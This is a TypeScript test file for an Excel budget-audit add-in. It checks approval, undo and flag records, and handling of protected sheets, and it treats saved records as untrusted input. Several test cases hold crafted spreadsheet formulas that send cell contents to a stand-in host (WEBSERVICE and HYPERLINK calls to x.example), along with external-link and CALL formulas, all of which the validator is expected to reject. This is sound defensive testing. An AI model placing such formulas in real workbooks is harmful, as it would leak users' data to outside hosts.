import { FakeWorkbook, type FakeCell } from "../support/fake-excel";
import { fakeFromSnapshot } from "../support/fake-from-snapshot";
import { omBudget } from "../acceptance/workbooks";
import { audit } from "../../src/core/engine";
import { planApproval } from "../../src/core/plan/approval-plan";
import { SETTING_FLAGS, SETTING_REVERT } from "../../src/excel/settings";
import {
  isRestorableFormula,
  isWrittenFormula,
  validateFlagRecord,
  validateRevertRecord,
} from "../../src/excel/records";
import type { Finding } from "../../src/core/model/finding";
import { yangpu } from "../support/pack";
import { bridgeFor } from "../support/office-bridge";

const SHEET = "运维预算表";
/** Every cell's value, formula, number format, fill, plus notes: the whole visible state of the workbook. */
const contents = (book: FakeWorkbook) =>
  JSON.stringify([
    book.sheets.map((s) => [
      s.name,
      [...s.cells].map(([k, c]: [string, FakeCell]) => [
        k,
        c.value ?? null,
        c.formula ?? null,
        c.numberFormat ?? null,
        c.fill ?? null,
      ]),
    ]),
    [...book.notes],
  ]);
const cell = (book: FakeWorkbook, a1: string) => {
  const m = /^([A-Z])(\d+)$/.exec(a1)!;
  return book.sheet(SHEET)!.ensure(Number(m[2]) - 1, m[1].charCodeAt(0) - 65);
};

async function plannedFor(bridge: ReturnType<typeof bridgeFor>) {
  const result = audit(await bridge.readWorkbook(), yangpu());
  return planApproval(result.model, result.review);
}

async function approved(version = "1.18") {
  const book = fakeFromSnapshot(omBudget(), version);
  const bridge = bridgeFor(book);
  const changes = await plannedFor(bridge);
  const before = contents(book);
  await bridge.applyChanges(changes);
  return { book, bridge, changes, before };
}

function finding(cellRef: string): Finding {
  return {
    rule: "om.hardware-rate",
    severity: "error",
    sheet: SHEET,
    row: Number(cellRef.slice(1)),
    cell: cellRef,
    message: "费率超标",
    messageEn: "rate over the cap",
    actual: "1",
    limit: "0",
    citation: "§1",
  };
}

describe("撤销核定 never destroys an edit", () => {
  test("cells edited after the approval are left as the user made them and named; the others are restored", async () => {
    const { book, bridge, changes } = await approved();
    expect(changes.map((c) => c.address)).toEqual(["G6", "F6", "E14"]);
    // The user edits an approved fee and the excluded item after the approval.
    Object.assign(cell(book, "G6"), { value: 9000, formula: undefined });
    delete cell(book, "G6").formula;
    cell(book, "E14").value = 12000;
    const outcome = await bridge.revertChanges();
    expect(outcome.restored).toBe(1);
    expect(outcome.skipped).toEqual([
      { sheet: SHEET, address: "G6", before: "10000" },
      { sheet: SHEET, address: "E14", before: "36000" },
    ]);
    expect(cell(book, "G6")).toMatchObject({ value: 9000 });
    expect(cell(book, "G6").formula).toBeUndefined();
    expect(cell(book, "E14").value).toBe(12000);
    // The unedited one is back as it was.
    expect(cell(book, "F6").value).toBe(0.1);
    expect(cell(book, "F6").formula).toBeUndefined();
    // The record is used up: the skipped cells keep the user's edit and 撤销核定 is not offered again.
    expect(await bridge.canRevert()).toBe(false);
    expect(book.settings.has(SETTING_REVERT)).toBe(false);
  });

  test("a formula retyped the same (spacing, $ anchors) still counts as what the approval wrote", async () => {
    const { book, bridge, before } = await approved();
    cell(book, "G6").formula = "=$E$6 * $F$6";
    const outcome = await bridge.revertChanges();
    expect(outcome.skipped).toEqual([]);
    expect(contents(book)).toEqual(before);
  });

  test("text that looks like a number or a formula is put back as the same text", async () => {
    const book = new FakeWorkbook("1.18");
    book.addSheet(SHEET).setRows([["x"]]);
    book.settings.set(
      SETTING_REVERT,
      JSON.stringify({
        v: 2,
        cells: [
          [SHEET, "B2", null, "4%", null, 0.04],
          [SHEET, "B3", null, "=A1 看这里", "=E3*F3", 0],
        ],
      }),
    );
    book.sheet(SHEET)!.ensure(1, 1).value = 0.04;
    book.sheet(SHEET)!.ensure(2, 1).formula = "=E3*F3";
    const outcome = await bridgeFor(book).revertChanges();
    expect(outcome).toEqual({ restored: 2, skipped: [] });
    expect(book.sheet(SHEET)!.cell(1, 1)).toEqual({ value: "4%" });
    expect(book.sheet(SHEET)!.cell(2, 1)?.formula).toBeUndefined();
    expect(book.sheet(SHEET)!.cell(2, 1)?.value).toBe("=A1 看这里");
  });
});

describe("the saved undo record is untrusted input", () => {
  /** A workbook whose G6 holds exactly what `after` says, and a crafted record about it. */
  function crafted(cells: unknown, extra?: (book: FakeWorkbook) => void) {
    const book = fakeFromSnapshot(omBudget(), "1.18");
    Object.assign(cell(book, "G6"), { formula: "=E6*F6", value: 8000 });
    extra?.(book);
    book.recalculate();
    book.settings.set(SETTING_REVERT, typeof cells === "string" ? cells : JSON.stringify(cells));
    return { book, bridge: bridgeFor(book), before: contents(book) };
  }
  const good = (over: Partial<Record<number, unknown>> = {}) => {
    const e: unknown[] = [SHEET, "G6", null, 10000, "=E6*F6", 8000];
    for (const [i, v] of Object.entries(over)) e[Number(i)] = v;
    return { v: 2, cells: [e] };
  };

  test("a valid record restores the cell (the baseline for the crafted ones below)", async () => {
    const { book, bridge } = crafted(good());
    expect(await bridge.revertChanges()).toEqual({ restored: 1, skipped: [] });
    expect(cell(book, "G6").value).toBe(10000);
  });

  test.each([
    ["not JSON", "{v:2"],
    ["an old version", { v: 1, cells: [[SHEET, "G6", null, 10000]] }],
    ["an array", [[SHEET, "G6"]]],
    ["an extra field", { ...good(), script: "x" }],
    ["no cells", { v: 2, cells: [] }],
    [
      "too many cells",
      { v: 2, cells: Array.from({ length: 50_001 }, (_, i) => [SHEET, `A${i + 1}`, null, 1, null, 1]) },
    ],
    ["a range instead of a cell", good({ 1: "A1:Z1000" })],
    ["a sheet-qualified address", good({ 1: "'其他'!G6" })],
    ["an address beyond the grid", good({ 1: "XFE1" })],
    ["a non-string sheet", good({ 0: 7 })],
    ["an arbitrary formula as what was written", good({ 4: '=WEBSERVICE("http://x.example/"&A1)' })],
    ["a sum as what was written", good({ 4: "=SUM(A1:A9)" })],
    ["a non-numeric written value", good({ 5: "8000" })],
    ["an external-link previous formula", good({ 2: "='[秘密.xlsx]Sheet1'!A1" })],
    ["a web-calling previous formula", good({ 2: '=WEBSERVICE("http://x.example/?"&A1)' })],
    ["a hyperlink as previous formula", good({ 2: '=HYPERLINK("http://x.example/","点我")' })],
    ["an over-long previous text", good({ 3: "x".repeat(40_000) })],
    ["an object as previous value", good({ 3: { toString: 1 } })],
    ["a cell listed twice", { v: 2, cells: [good().cells[0], good().cells[0]] }],
  ])("%s: refused with a message, nothing written, the record removed", async (_, record) => {
    const { book, bridge, before } = crafted(record);
    await expect(bridge.revertChanges()).rejects.toThrow(/撤销记录无效.*未恢复任何单元格/);
    expect(contents(book)).toEqual(before);
    expect(book.settings.has(SETTING_REVERT)).toBe(false);
  });

  test("a record naming a sheet that does not exist writes nothing and is kept (rename the sheet back to undo)", async () => {
    const { book, bridge, before } = crafted(good({ 0: "旧名字" }));
    const err = await bridge.revertChanges().catch((e: unknown) => e);
    expect(err).toMatchObject({ sheet: "旧名字" });
    expect(String((err as Error).message)).toMatch(/旧名字.*已不存在.*改回原名/);
    expect((err as { messageEn: string }).messageEn).toMatch(/旧名字.*no longer exists/);
    expect(contents(book)).toEqual(before);
    expect(book.settings.has(SETTING_REVERT)).toBe(true);
  });

  test("a record whose cell does not hold what it claims was written leaves the cell alone", async () => {
    const { book, bridge, before } = crafted(good({ 1: "G7" }));
    expect(await bridge.revertChanges()).toEqual({
      restored: 0,
      skipped: [{ sheet: SHEET, address: "G7", before: "10000" }],
    });
    expect(contents(book)).toEqual(before);
  });

  test("the shapes the planners write are accepted, and nothing else", () => {
    // Two cells, or three for a per-unit 原值's whole base (原值 × 数量) × the rate cell or the cap, rounded or not.
    for (const f of [
      "=E6*F6",
      "=ROUND(E6*F6,2)",
      "=E13*20000",
      "=E6*0.08",
      "=$E$6*$F$6",
      "=C12*D12",
      "=C6*D6*F6",
      "=C6*D6*0.08",
      "=ROUND(C6*D6*F6,2)",
      "=ROUND(E6*F6,6)",
    ]) {
      expect([f, isWrittenFormula(f)]).toEqual([f, true]);
    }
    for (const f of [
      "=E6*F6+1",
      "=SUM(E6:F6)",
      "=E6",
      "=C6*D6*E6*F6",
      "=C6*0.5*F6",
      "='x'!E6*F6",
      "=ROUND(E6*F6,2)*2",
      "E6*F6",
      "=e6*f6 ",
      "=C6*D6*F6+1",
    ]) {
      expect([f, isWrittenFormula(f)]).toEqual([f, false]);
    }
    for (const f of ["=SUM(G5:G8)", "=E5*0.1", "=ROUND(E5*F5/10000,2)", "='运维 预算'!E5*F5", '=IF(E5>0,"有","无")'])
      expect([f, isRestorableFormula(f)]).toEqual([f, true]);
    for (const f of ['=WEBSERVICE("u")', "=[1]Sheet1!A1", '=CALL("a","b")', "=INDIRECT(A1)", "=E5\n*2", "x"])
      expect([f, isRestorableFormula(f)]).toEqual([f, false]);
  });

  test("applyChanges writes records that validate, and refuses a plan whose writes could not be undone safely", async () => {
    const { book, changes } = await approved();
    expect(() => validateRevertRecord(book.settings.get(SETTING_REVERT), new Set([SHEET]))).not.toThrow();
    const fresh = fakeFromSnapshot(omBudget(), "1.18");
    const before = contents(fresh);
    const evil = changes.map((c, i) =>
      i === 0 ? { ...c, after: { formula: '=WEBSERVICE("http://x.example/")', value: 0 } } : c,
    );
    await expect(bridgeFor(fresh).applyChanges(evil)).rejects.toThrow(/无法撤销.*未写入/);
    expect(contents(fresh)).toEqual(before);
    expect(fresh.settings.has(SETTING_REVERT)).toBe(false);
  });
});

describe("the saved flag record is untrusted input", () => {
  async function flagged() {
    const book = fakeFromSnapshot(omBudget(), "1.18");
    const before = contents(book);
    const bridge = bridgeFor(book);
    await bridge.flagFindings([finding("G6"), finding("G7")]);
    return { book, bridge, before };
  }

  test("the record flagging writes validates, and clearing restores from it", async () => {
    const { book, bridge, before } = await flagged();
    expect(() => validateFlagRecord(book.settings.get(SETTING_FLAGS))).not.toThrow();
    await bridge.clearFlags();
    expect(contents(book)).toEqual(before);
  });

  test.each([
    ["not JSON", "]["],
    ["a colour that is not #RRGGBB", { v: 1, sheets: { [SHEET]: [["G6", "#FFC7CE", "red", null]] } }],
    [
      "a pattern outside Excel's enum",
      { v: 1, sheets: { [SHEET]: [["G6", "#FFC7CE", "#FFFFFF|Evil|#000000", null]] } },
    ],
    ["a flag colour the add-in never uses", { v: 1, sheets: { [SHEET]: [["G6", "#123456", "", null]] } }],
    ["a range", { v: 1, sheets: { [SHEET]: [["A1:Z9999", "#FFC7CE", "", null]] } }],
    ["an over-long note", { v: 1, sheets: { [SHEET]: [["G6", "#FFC7CE", "", "x".repeat(40_000)]] } }],
    ["a note that is not text", { v: 1, sheets: { [SHEET]: [["G6", "#FFC7CE", "", 5]] } }],
    ["another version", { v: 2, sheets: {} }],
    [
      "too many cells",
      { v: 1, sheets: { [SHEET]: Array.from({ length: 50_001 }, (_, i) => [`A${i + 1}`, "#FFC7CE", "", null]) } },
    ],
  ])("%s: 清除标记 refuses it with a message and changes no cell", async (_, record) => {
    const { book, bridge } = await flagged();
    book.settings.set(SETTING_FLAGS, typeof record === "string" ? record : JSON.stringify(record));
    const now = contents(book);
    await expect(bridge.clearFlags()).rejects.toThrow(/标记记录无效.*未改动任何单元格/);
    expect(contents(book)).toEqual(now);
    // Removed, so the next check flags afresh instead of failing on it again.
    expect(await bridge.hasFlags()).toBe(false);
  });
});

describe("protected sheets", () => {
  const protectedMessage = /工作表“运维预算表”受保护.*审阅.*撤销工作表保护/;

  test("flagging a protected sheet names it and writes nothing (no fill, no note, no record)", async () => {
    const book = fakeFromSnapshot(omBudget(), "1.18");
    book.sheet(SHEET)!.protected = true;
    const before = contents(book);
    const err = await bridgeFor(book)
      .flagFindings([finding("G6")])
      .catch((e: unknown) => e);
    expect(String((err as Error).message)).toMatch(protectedMessage);
    expect(String((err as Error).message)).toMatch(/未写入任何内容/);
    expect((err as { messageEn: string }).messageEn).toMatch(/"运维预算表" is protected.*Review → Unprotect Sheet/);
    expect(err).toMatchObject({ sheet: SHEET });
    expect(contents(book)).toEqual(before);
    expect(book.settings.size).toBe(0);
    // The protection check rode on the first read: flagging still takes the same three syncs.
    book.sheet(SHEET)!.protected = false;
    book.resetStats();
    await bridgeFor(book).flagFindings([finding("G6")]);
    expect(book.stats.syncs).toBe(3);
  });

  test("approving into a protected sheet names it and writes nothing", async () => {
    const book = fakeFromSnapshot(omBudget(), "1.18");
    const bridge = bridgeFor(book);
    const changes = await plannedFor(bridge);
    book.sheet(SHEET)!.protected = true;
    const before = contents(book);
    await expect(bridge.applyChanges(changes)).rejects.toThrow(protectedMessage);
    expect(contents(book)).toEqual(before);
    expect(await bridge.canRevert()).toBe(false);
  });

  test("reverting into a protected sheet names it, writes nothing and keeps the record", async () => {
    const { book, bridge, changes } = await approved();
    book.sheet(SHEET)!.protected = true;
    const now = contents(book);
    await expect(bridge.revertChanges()).rejects.toThrow(protectedMessage);
    expect(contents(book)).toEqual(now);
    expect(await bridge.canRevert()).toBe(true);
    book.sheet(SHEET)!.protected = false;
    expect((await bridge.revertChanges()).restored).toBe(changes.length);
  });

  test("clearing flags on a protected sheet names it and writes nothing", async () => {
    const book = fakeFromSnapshot(omBudget(), "1.18");
    const bridge = bridgeFor(book);
    await bridge.flagFindings([finding("G6")]);
    book.sheet(SHEET)!.protected = true;
    const now = contents(book);
    await expect(bridge.clearFlags()).rejects.toThrow(protectedMessage);
    expect(contents(book)).toEqual(now);
    expect(await bridge.hasFlags()).toBe(true);
  });

  test("a protected 审核结果 sheet is named before it is cleared", async () => {
    const book = fakeFromSnapshot(omBudget(), "1.18");
    const bridge = bridgeFor(book);
    await bridge.writeResultsSheet([finding("G6")], "zh-CN");
    book.sheet("审核结果")!.protected = true;
    const now = contents(book);
    await expect(bridge.writeResultsSheet([finding("G6"), finding("G7")], "zh-CN")).rejects.toThrow(
      /工作表“审核结果”受保护/,
    );
    expect(contents(book)).toEqual(now);
  });

  test("a workbook whose structure is protected gets a message about that when the 审核结果 sheet is added", async () => {
    const book = fakeFromSnapshot(omBudget(), "1.18");
    book.structureProtected = true;
    const err = await bridgeFor(book)
      .writeResultsSheet([finding("G6")], "zh-CN")
      .catch((e: unknown) => e);
    expect(String((err as Error).message)).toMatch(/工作簿的结构受保护，无法添加“审核结果”工作表.*保护工作簿/);
    expect((err as { messageEn: string }).messageEn).toMatch(/structure is protected/);
    expect(book.sheets.map((s) => s.name)).toEqual([SHEET]);
  });

  test("a sheet protected while writing (Excel's AccessDenied) gives the same message, not Microsoft's", async () => {
    const book = fakeFromSnapshot(omBudget(), "1.18");
    const bridge = bridgeFor(book);
    book.resetStats();
    // Protected after the request that checked (sync 2; sync 1 looks for an earlier flag record), before the writes.
    book.onSync = (n) => {
      if (n === 3) book.sheet(SHEET)!.protected = true;
    };
    const err = await bridge.flagFindings([finding("G6")]).catch((e: unknown) => e);
    expect(String((err as Error).message)).toMatch(/工作表“运维预算表”受保护，Excel 拒绝了写入，可能只写入了一部分/);
    expect(String((err as Error).message)).not.toMatch(/You cannot perform/);
    expect(err).toMatchObject({ sheet: SHEET });
  });
});
